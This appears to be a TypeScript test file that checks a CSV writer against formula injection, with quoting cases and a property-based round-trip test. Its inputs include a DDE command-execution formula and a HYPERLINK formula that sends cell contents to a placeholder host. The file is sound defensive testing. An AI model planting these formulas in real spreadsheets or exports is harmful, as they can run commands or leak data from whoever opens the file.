import assert from 'node:assert/strict';
import fc from 'fast-check';
import { describe, test } from 'vitest';
import { csvLine, csvValue } from './csv.ts';

describe('a value', () => {
  test.each([
    ['plain', '"plain"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['', '""'],
    [undefined, '""'],
    [0, '"0"'],
    [-5, '"-5"'],
  ])('%j is written as %s', (value, written) => {
    assert.equal(csvValue(value), written);
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("https://x.example/?q="&A1)',
  ])('%j is no formula', (value) => {
    assert.ok(csvValue(value).startsWith(`"'`));
    assert.equal(parsed(csvLine([value]))[0]?.[0], `'${value}`);
  });
});

test('whatever values say, a reader of CSV gets as many, and only a quote in front is added', () => {
  const texts = fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 });
  fc.assert(
    fc.property(fc.array(texts, { minLength: 1, maxLength: 4 }), (rows) => {
      const read = parsed(rows.map((row) => csvLine(row)).join(''));
      assert.deepEqual(
        read.map((row) => row.map((value) => value.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, ''))),
        rows.map((row) => row.map((value) => value.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, ''))),
      );
      for (const value of read.flat()) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
    }),
  );
});

/** RFC 4180, read by the letter. */
function parsed(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, value, end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    row.push(value!.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
